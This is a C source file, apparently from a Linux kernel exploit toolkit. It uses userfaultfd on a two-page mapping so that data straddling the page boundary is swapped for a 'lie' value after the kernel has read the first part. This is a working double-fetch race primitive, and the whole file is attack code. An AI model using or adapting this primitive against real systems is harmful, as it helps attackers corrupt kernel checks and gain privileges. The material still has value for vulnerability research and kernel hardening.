// SPDX-License-Identifier: Apache-2.0
/*
 * straddle.c - memory that changes while the kernel reads it; see attack.h
 */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack.h"

#define PAGE 4096

/* Waits for the kernel to come to the second page; by then it has read the first. */
static void *change(void *arg)
{
	struct straddle *s = arg;
	struct uffdio_copy copy = {
		.dst = (uintptr_t)s->page + PAGE,
		.src = (uintptr_t)s->filled,
		.len = PAGE,
	};
	struct uffd_msg msg;

	must(read(s->uffd, &msg, sizeof(msg)) == sizeof(msg), "userfaultfd");
	memcpy(s->at, s->lie, s->size - s->tail);
	memcpy(s->filled, (const uint8_t *)s->lie + s->size - s->tail, s->tail);
	must(ioctl(s->uffd, UFFDIO_COPY, &copy) == 0, "UFFDIO_COPY");
	return NULL;
}

bool straddle_init(struct straddle *s, const void *real, const void *lie, size_t size, size_t tail)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	pthread_t thread;

	s->uffd = syscall(SYS_userfaultfd, O_CLOEXEC);
	if (s->uffd < 0 || ioctl(s->uffd, UFFDIO_API, &api))
		return false;
	/* where a 32-bit pointer can point to it, too */
	s->page = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	must(s->page != MAP_FAILED, "mmap");
	s->filled = calloc(1, PAGE);
	s->size = size;
	s->tail = tail;
	s->lie = lie;
	s->at = s->page + PAGE - (size - tail);
	memcpy(s->at, real, size - tail);
	reg.range.start = (uintptr_t)s->page + PAGE;
	reg.range.len = PAGE;
	must(ioctl(s->uffd, UFFDIO_REGISTER, &reg) == 0, "UFFDIO_REGISTER");
	must(!pthread_create(&thread, NULL, change, s), "thread");
	return true;
}
